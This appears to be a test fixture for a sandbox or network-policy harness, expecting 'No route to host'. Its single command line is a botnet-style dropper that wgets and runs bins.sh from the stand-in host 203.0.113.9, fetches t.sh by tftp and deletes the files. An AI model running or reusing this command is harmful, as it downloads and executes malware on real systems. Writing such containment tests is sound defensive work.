# on: all
# want: No route to host
# want: done 0
# allow: tftp
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get t.sh 2>/dev/null; rm -rf bins.sh *.sh
echo done $?
